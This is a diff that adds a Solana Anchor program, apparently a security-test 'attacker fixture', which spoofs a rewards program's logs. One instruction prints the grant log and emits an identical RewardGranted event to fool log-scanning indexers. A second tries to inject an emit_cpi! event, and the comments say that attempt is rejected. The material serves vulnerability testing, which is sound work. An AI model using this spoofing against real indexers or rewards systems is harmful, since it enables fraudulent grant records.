@@ -0,0 +1,67 @@
+//! Attacker fixture: reproduces the rewards program's log output.
+//!
+//! Nothing here touches the rewards pool. Every instruction only prints,
+//! or tries to inject, what an indexer of `rewards_distributor` would read
+//! as a grant.
+
+use anchor_lang::solana_program::instruction::{AccountMeta, Instruction};
+use anchor_lang::solana_program::program::invoke;
+use rewards_distributor::RewardGranted;
+use secref_prelude::*;
+
+declare_id!("LogSpoofer111111111111111111111111111111111");
+
+pub mod instructions;
+
+pub use instructions::*;
+
+/// Prefix Anchor puts on self-CPI event instructions (`EVENT_IX_TAG`, little endian)
+pub const EVENT_IX_TAG_LE: [u8; 8] = 0x1d9a_cb51_2ea5_45e4u64.to_le_bytes();
+
+#[program]
+pub mod log_spoofer {
+    use super::*;
+
+    /// Print the rewards program's grant log and event, byte for byte
+    ///
+    /// Succeeds: logs are not authenticated. An indexer that scans log
+    /// lines for the text or the event discriminator records a grant.
+    pub fn spoof_logs(_ctx: Context<SpoofLogs>, recipient: Pubkey, amount: u64, grant_id: u64) -> Result<()> {
+        // Same text as `vulnerable_grant_reward`
+        msg!("Reward granted: {} to {}", amount, recipient);
+        // Same bytes as its `emit!`: event discriminator + Borsh payload
+        emit!(RewardGranted {
+            recipient,
+            amount,
+            grant_id,
+        });
+        Ok(())
+    }
+
+    /// Try to inject an `emit_cpi!` event into the rewards program
+    ///
+    /// Fails: the event instruction must be signed by the rewards program's
+    /// event authority PDA, which only the rewards program can sign for, so
+    /// its event handler rejects the call with `ConstraintSigner`.
+    pub fn spoof_cpi_event(ctx: Context<SpoofCpiEvent>, recipient: Pubkey, amount: u64, grant_id: u64) -> Result<()> {
+        let event = RewardGranted {
+            recipient,
+            amount,
+            grant_id,
+        };
+        let mut data = EVENT_IX_TAG_LE.to_vec();
+        data.extend_from_slice(&anchor_lang::Event::data(&event));
+
+        let ix = Instruction {
+            program_id: rewards_distributor::ID,
+            // Cannot be marked as a signer: this program has no authority over it
+            accounts: vec![AccountMeta::new_readonly(ctx.accounts.event_authority.key(), false)],
+            data,
+        };
+        invoke(
+            &ix,
+            &[ctx.accounts.event_authority.to_account_info(), ctx.accounts.rewards_program.to_account_info()],
+        )?;
+        Ok(())
+    }
+}